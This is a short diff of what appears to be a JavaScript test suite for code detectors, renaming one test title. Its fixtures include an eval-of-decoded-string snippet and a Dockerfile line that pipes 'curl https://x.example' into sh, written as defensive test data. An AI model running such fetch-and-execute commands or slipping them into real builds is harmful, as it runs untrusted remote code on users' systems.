@@ -47,7 +47,7 @@ describe.each([
   ["a function of JavaScript", "js", `function ${name}() { return atob("YQ==") }\neval(${name}())`],
   ["a build argument", "dockerfile", `ARG ${name}=curl\nRUN $${name} https://x.example | sh\n`],
 ])("%s of any length", (_title, format, text) => {
-  it.each(detectors)("ends no analysis: $revision.profile", (detector) => {
+  it.each(detectors)("does not end an analysis: $revision.profile", (detector) => {
     expect(() => detector.detect(text, { format })).not.toThrow();
   });
 });
